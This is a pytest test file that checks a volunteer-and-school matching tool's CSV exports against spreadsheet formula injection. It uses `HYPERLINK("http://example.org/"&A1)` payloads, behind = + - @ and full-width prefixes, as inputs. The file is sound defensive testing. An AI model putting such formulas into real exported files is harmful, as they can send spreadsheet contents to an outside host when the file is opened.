"""No cell of any CSV file is a formula to a spreadsheet program, and what is read is what was written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from matcher.formulas import as_text, from_text
from matcher.intake import read_scenario
from tests.cli.program import FIRST_STEPS, rows, well_here
from tests.cli.publishing_workspaces import scenario_later

FIRST = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
LIVE = [f'{each}HYPERLINK("http://example.org/"&A1)' for each in FIRST]


def cells(file: Path) -> list[str]:
    with file.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def assert_no_formula(file: Path) -> None:
    for cell in cells(file):
        assert not cell.startswith((*FIRST, "\t", "\r", "\n")) or cell.replace(".", "").lstrip("+-").isdigit(), cell


@given(st.one_of(st.text(), st.text(st.sampled_from("'=+-@\t\r\n＝1.eA"), max_size=6)))
def test_any_text_comes_back_and_no_text_is_a_formula(text: str) -> None:
    written = as_text(text)
    assert from_text(written) == text
    if written.startswith((*FIRST, "\t", "\r", "\n")):
        assert float(written) is not None
    if not text.startswith((*FIRST, "\t", "\r", "\n", "'", *"﹢﹣﹦﹫−")):
        assert written == text


@pytest.mark.parametrize("number", ["-1.47", "+3", "-0", "-1e5", "12", "0.5"])
def test_numbers_stay_numbers(number: str) -> None:
    assert as_text(number) == number
    assert from_text(f"'{number}") == f"'{number}"


@pytest.mark.parametrize("text", ["'tis", "''quoted''", "O'Neill", "'", ""])
def test_other_apostrophes_stay(text: str) -> None:
    assert as_text(text) == from_text(text) == text


@pytest.mark.parametrize("name", LIVE, ids=FIRST)
def test_names_in_links_and_reasons_are_text(tmp_path: Path, name: str) -> None:
    scenario = scenario_later(
        tmp_path,
        {
            "volunteers": {"DEE": {"name": name}},
            "schools": {"OAK": {"name": name}, "ELM": {"name": name}},
            "cohorts": {row["cohort_id"]: {"name": name} for row in rows(FIRST_STEPS / "cohorts.csv")},
            "sessions": {row["session_id"]: {"title": name} for row in rows(FIRST_STEPS / "sessions.csv")},
        },
    )
    db, out, links = tmp_path / "matcher.db", tmp_path / "plan", tmp_path / "links.csv"
    well_here("import", scenario, "--db", db, "--quiet")
    well_here("solve", "--db", db, "--deterministic", "--quiet")
    well_here("export", "--db", db, "--out", out)
    well_here("publish", "--db", db, "--yes", "--no-letters")
    well_here("feed", "write", tmp_path / "web", "--links", links, "--db", db)
    for file in (links, out / "plan.csv", out / "sessions.csv"):
        assert_no_formula(file)
    assert f"'{name}" in cells(links)


def test_ids_are_text_too_and_safe_ones_stand_as_they_are(tmp_path: Path) -> None:
    db, links = tmp_path / "matcher.db", tmp_path / "links.csv"
    scenario = scenario_later(tmp_path)
    for file in scenario.glob("*.csv"):
        text = file.read_text(encoding="utf-8").replace("DEE", "=DEE").replace("NICK", "-1").replace("OAK-2", "@OAK-2")
        file.write_text(text, encoding="utf-8")
    well_here("run", scenario, "--out", tmp_path / "plan", "--quiet", "--deterministic")
    for name in ("plan.csv", "sessions.csv"):
        assert_no_formula(tmp_path / "plan" / name)
    people = {row["volunteer_id"] for row in rows(tmp_path / "plan" / "plan.csv")}
    assert {"'=DEE", "-1", "ADA"} <= people
    assert "'@OAK-2" in {row["session_id"] for row in rows(tmp_path / "plan" / "sessions.csv")}
    well_here("import", scenario, "--db", db, "--quiet")
    well_here("solve", "--db", db, "--deterministic", "--quiet")
    well_here("publish", "--db", db, "--yes", "--no-letters")
    well_here("feed", "write", tmp_path / "web", "--links", links, "--db", db)
    assert_no_formula(links)


def test_an_apostrophe_before_a_formula_is_not_read(tmp_path: Path) -> None:
    """As it stands in what is written here, and as people type it."""
    scenario = scenario_later(tmp_path, {"volunteers": {"DEE": {"name": "'=1+1"}, "NICK": {"name": "''=1"}}})
    people = read_scenario(scenario).problem.volunteers
    assert (people["DEE"].name, people["NICK"].name) == ("=1+1", "'=1")


def test_invented_terms_hold_no_formula(tmp_path: Path) -> None:
    well_here("template", tmp_path / "template")
    well_here("scenario", tmp_path / "term", "--schools", 2, "--volunteers", 20)
    for file in (*(tmp_path / "template").glob("*.csv"), *(tmp_path / "term").glob("*.csv")):
        assert_no_formula(file)
        csv.reader(io.StringIO(file.read_text(encoding="utf-8")))
    longitudes = [row["longitude"] for row in rows(tmp_path / "term" / "volunteers.csv") if row["longitude"]]
    assert longitudes and all(float(each) < 0 for each in longitudes)
